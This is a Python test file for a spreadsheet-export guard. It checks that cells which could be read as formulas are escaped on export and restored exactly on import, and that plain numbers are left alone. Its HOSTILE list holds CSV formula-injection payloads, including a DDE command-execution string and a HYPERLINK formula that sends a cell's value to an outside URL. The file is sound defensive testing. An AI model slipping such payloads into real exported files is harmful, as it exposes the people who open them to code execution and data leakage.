"""No exported cell is a formula, and each comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtime.kinds.table.transfer.cells import guarded, unguarded

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    " =1+1",
    "\u3000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "=cmd|' /C calc'!A0",
    "DDE",
    '=HYPERLINK("http://example.org?x="&A1)',
    "'=1+1",
    "''=1",
    "%0A=1",
    "|calc",
    "\ufeff=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_be_a_formula_is_marked(text):
    assert guarded(text)[:1] in "'D"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("number", ["-5", "12", "-0.5", "1e9", "-2.5E-3"])
def test_numbers_are_left_alone(number):
    assert guarded(number) == number


@given(st.text())
def test_every_text_comes_back(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=+@\t\r\n＝＋－＠")
